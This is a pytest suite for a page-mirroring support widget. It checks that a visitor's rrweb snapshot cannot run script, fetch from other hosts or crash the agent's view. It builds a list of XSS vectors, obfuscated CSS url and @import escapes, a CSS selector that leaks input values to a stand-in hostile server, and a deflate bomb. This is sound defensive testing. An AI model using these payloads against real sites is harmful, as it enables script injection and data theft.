"""A page that lies of itself: what it tells an agent's screen runs nothing, fetches nothing, and ends nothing."""

import json
import zlib
from contextlib import contextmanager
from itertools import count

import pytest
from django.utils import timezone
from playwright.sync_api import expect
from websockets.sync.client import connect

from console.mirror import parts
from console.widget import tokens
from conversations.models import Inbox

from .seen import browse, look, picture, published, screen, talk, unasked

__all__ = ["browse", "published", "talk", "unasked"]

EVIL = "parent.ran = top.ran = true"


def words_in(words, of):
    return {"type": 3, "textContent": words, "id": next(of)}


def element(tag, attributes=None, *within, of=None):
    """As rrweb tells of it; `of` counts the ids."""
    number = next(of)
    children = [one if isinstance(one, dict) else words_in(one, of) for one in within]
    return {"type": 2, "tagName": tag, "attributes": attributes or {}, "childNodes": children, "id": number}


LINKS = ["preload", "prefetch", "dns-prefetch", "preconnect", "modulepreload", "manifest", "icon", "prerender"]


def hostile_nodes(evil, of):
    def make(tag, attributes=None, *within):
        return element(tag, attributes, *within, of=of)

    drawing = make("svg", {"onload": EVIL}, make("script", {}, EVIL), make("a", {"xlink:href": f"javascript:{EVIL}"}))
    return [
        make("script", {}, EVIL),
        make("script", {"src": f"{evil}/x.js"}),
        make("img", {"src": "x", "onerror": EVIL, "onload": EVIL}),
        make("a", {"id": "link", "href": f"javascript:{EVIL}", "onclick": EVIL, "target": "_top"}, "A link"),
        make("form", {"action": evil, "target": "_top"}, make("button", {"id": "send", "formaction": evil}, "Send")),
        make("meta", {"http-equiv": "refresh", "content": f"0;url={evil}"}),
        make("base", {"href": evil}),
        make("iframe", {"src": evil, "srcdoc": f"<script>{EVIL}</script>", "rr_src": evil}),
        make("object", {"data": evil}),
        make("embed", {"src": evil}),
        make("link", {"rel": "stylesheet", "href": f"{evil}/x.css"}),
        make("style", {"_cssText": f"@import url({evil}/y.css); input[value^=a] {{ background: url({evil}/a) }}"}),
        make("style", {}, f"@font-face {{ font-family: x; src: \\75rl({evil}/f) }} * {{ font-family: x }}"),
        make("div", {"style": f"background: url({evil}/b)", "background": f"{evil}/c"}, "Some words"),
        make("video", {"src": f"{evil}/v", "poster": f"{evil}/p", "autoplay": "", "controls": ""}),
        *(make("link", {"rel": rel, "href": f"{evil}/{rel}", "as": "image"}) for rel in LINKS),
        make(
            "p",
            {"style": f"background: \\75rl({evil}/e); cursor: u\\72l({evil}/g), auto; mask: image-set('{evil}/h' 1x)"},
        ),
        make("style", {}, f"@\\69mport '{evil}/i.css'; @font-face {{ font-family: y; src: url({evil}/j), local(z) }}"),
        make("math", {"href": f"javascript:{EVIL}"}, make("mtext", {"xlink:href": f"{evil}/k"}, "x")),
        make(
            "img",
            {"srcset": f"{evil}/l 1x, //{evil.split('//')[1]}/m 2x", "lowsrc": f"{evil}/n", "dynsrc": f"{evil}/o"},
        ),
        make("dialog", {"open": "", "rr_open_mode": "modal"}, "A dialog"),
        {**drawing, "isSVG": True},
    ]


@pytest.fixture
def lie(talk, server):
    """A line by which the visitor's page tells what it likes."""

    @contextmanager
    def begin():
        _ana, conversation = talk
        token = tokens.token_of(conversation.visitor.key, Inbox.objects.get())
        address = f"{server.url.replace('http', 'ws')}/ws/widget/maison-lorme/mirror/"
        with connect(address, origin=server.url) as line:
            line.send(json.dumps({"type": "hello", "token": token, "language": "en"}))
            while json.loads(line.recv())["type"] != "welcome":
                pass
            yield lambda told, flags=0: line.send(bytes([parts.LAST | flags]) + in_bytes(told))

    return begin


def in_bytes(told):
    return told if isinstance(told, bytes) else json.dumps(told).encode()


def event(kind, data):
    return {"type": kind, "data": data, "timestamp": int(timezone.now().timestamp() * 1000)}


def change(source, **data):
    return event(3, {"source": source, **data})


def mutation(**data):
    return change(0, **{"texts": [], "attributes": [], "removes": [], "adds": [], **data})


def page_of(body, of):
    """The events by which a page is told as it is."""
    html = element("html", {}, element("head", of=of), body, of=of)
    node = {"type": 0, "childNodes": [html], "id": next(of)}
    first = event(4, {"href": f"javascript:{EVIL}", "width": 390, "height": 844})
    return [first, event(2, {"node": node, "initialOffset": {"top": 0, "left": 0}})]


def test_nothing_runs_on_the_agents_screen_and_nothing_is_fetched_from_elsewhere(
    talk, sign_in, browse, server, other_server, unasked, lie
):
    ana, _conversation = talk
    browse("<h1>A page</h1>")
    agent, asked = sign_in(ana), []
    agent.page.on("requestfinished", lambda request: asked.append(request.url))  # what the policy refuses does not
    look(agent)
    expect(picture(agent).locator("h1")).to_have_text("A page")
    of, evil = count(2), other_server.origin
    body = element("body", {"onload": EVIL}, element("h1", {}, "Here I am", of=of), *hostile_nodes(evil, of), of=of)
    later = [{"parentId": body["id"], "nextId": None, "node": node} for node in hostile_nodes(evil, of)]
    painted = change(9, id=body["id"], type=0, property="drawImage", args=[EVIL])
    plugin = event(6, {"plugin": "rrweb/console@1", "payload": EVIL})

    with lie() as tell:
        tell([*page_of(body, of), mutation(adds=later), painted, plugin], parts.BEGINS)
        expect(picture(agent).locator("h1")).to_have_text("Here I am")
        expect(picture(agent).get_by_text("Some words").last).to_be_attached()

    frame = screen(agent).locator("#page iframe")
    expect(frame).to_have_attribute("sandbox", "allow-same-origin")
    assert [shown.evaluate("window.ran") for shown in agent.page.frames if shown.url != "about:blank"] == [None, None]
    assert agent.page.url.startswith(server.url)
    assert [url for url in asked if not url.startswith((server.url, "data:"))] == []


def test_what_cannot_be_drawn_or_read_ends_nothing(talk, sign_in, browse, unasked, lie):
    ana, _conversation = talk
    browse("<h1>A page</h1>")
    agent = sign_in(ana)
    look(agent)
    expect(picture(agent).locator("h1")).to_have_text("A page")
    of = count(2)
    style, heading, field = (
        element("style", {}, "h1 { color: red }", of=of),
        element("h1", {}, "First", of=of),
        element("input", {"type": "file"}, of=of),
    )
    body = element("body", {}, style, heading, field, of=of)
    words = heading["childNodes"][0]["id"]
    host = {**element("img", of=of), "isShadowHost": True}
    odd = [
        *(None, 1, [], {}, {"type": 3}, {"type": 2, "data": {}}, {"type": 3, "data": {"source": 0, "adds": [None]}}),
        change(13, id=style["id"], index=[99, 0], set={"property": "color", "value": "red"}),
        change(2, id=heading["id"], type=99),
        {**mutation(texts=[{"id": words, "value": "Soon"}]), "timestamp": 1e300},
        {**mutation(texts=[{"id": words, "value": "Long ago"}]), "timestamp": -1e300},
        change(1, positions=[{"id": heading["id"], "timeOffset": -1e15}, None]),
        change(5, id=field["id"], text="C:\\a.pdf", isChecked=True),
        change(15, id=heading["id"], styleIds=[1, 2], styles=[{"styleId": 1, "rules": [{"rule": "}{"}]}]),
        mutation(adds=[{"parentId": body["id"], "nextId": None, "node": host}]),
        mutation(removes=[{"parentId": -1, "id": 1e300}, {"parentId": body["id"], "id": -body["id"]}]),
    ]
    bomb = zlib.compress(b"[" + b" " * 40_000_000 + b"]", wbits=-zlib.MAX_WBITS)
    whole = zlib.compress(json.dumps(page_of(body, of)).encode(), wbits=-zlib.MAX_WBITS)
    unreadable = [
        (b"[", 0),
        (b"{}", 0),
        (b"\xff", 0),
        (b"no deflate", parts.PACKED),
        (whole[:50], parts.PACKED),
        (bomb, parts.PACKED),
    ]

    with lie() as tell:
        tell([*page_of(body, of), *odd], parts.BEGINS)
        for number, (text, flags) in enumerate(unreadable):
            tell(text, flags)
            tell([mutation(texts=[{"id": words, "value": f"Later {number}"}])])
            expect(picture(agent).locator("h1")).to_have_text(f"Later {number}")
